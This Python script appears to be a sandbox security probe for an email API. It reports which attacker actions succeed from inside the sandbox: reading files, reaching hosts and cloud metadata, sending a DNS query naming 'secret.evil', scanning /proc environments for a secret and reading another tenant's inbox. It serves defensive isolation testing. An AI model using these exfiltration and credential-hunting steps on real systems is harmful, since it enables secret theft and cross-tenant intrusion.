#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""
What an attacker would try from inside, told by the host as JSON on standard
input; prints what worked as JSON. It believes nothing about its sandbox.
"""
import glob
import json
import os
import socket
import ssl
import sys
import urllib.error
import urllib.request

URL = os.environ["POSTERN_URL"]
KEY = os.environ["POSTERN_KEY"]
ask = json.load(sys.stdin)


def api(method, path, body=None):
    """(status, document)"""
    request = urllib.request.Request(
        URL + path, method=method, data=json.dumps(body).encode()
        if body is not None else None, headers={
            "Authorization": "Bearer " + KEY,
            "Content-Type": "application/json"})
    context = ssl.create_default_context(cafile="/etc/postern/ca.pem")
    try:
        with urllib.request.urlopen(request, context=context,
                                    timeout=20) as reply:
            return reply.status, json.load(reply)
    except urllib.error.HTTPError as e:
        return e.code, json.load(e)


def send(subject, to):
    return api("POST", "/v1/messages/send", {
        "to": [to], "subject": subject, "text": "Sent from a sandbox."})


def readable(paths):
    return [p for p in paths if os.path.exists(p) and os.access(p, os.R_OK)]


def reachable(places):
    found = []
    for host, port in places:
        try:
            socket.create_connection((host, port), timeout=2).close()
            found.append("%s:%d" % (host, port))
        except OSError:
            pass
    return found


def ask_name_server(host, port):
    """One question about a secret, as DNS would carry it out."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\4evil\0\0\1\0\1",
                 (host, port))
        return True
    except OSError:
        return False


def secrets_seen(word):
    found = [name for name, v in os.environ.items() if word in v]
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as f:
                if word.encode() in f.read():
                    found.append(path)
        except OSError:
            pass
    return found


def messages_seen():
    status, doc = api("GET", "/v1/messages?limit=100")
    return [m["message_id"] for m in doc.get("messages", [])] \
        if status == 200 else []


smoke = send("Smoke test", ask["to"])
loop = [send("Loop %d" % i, ask["to"])[1] for i in range(ask["loop"])]
print(json.dumps({
    "smoke": smoke,
    "files": readable(ask["files"]),
    "places": reachable(ask["places"]),
    "metadata": reachable(ask["metadata"]),
    "dns": ask_name_server(*ask["dns"]),
    "secrets": secrets_seen(ask["secret_word"]),
    "other_inbox": api("GET", "/v1/inboxes/" + ask["other_inbox"])[0],
    "messages": messages_seen(),
    "statuses": [d.get("status") for d in [smoke[1]] + loop],
}))
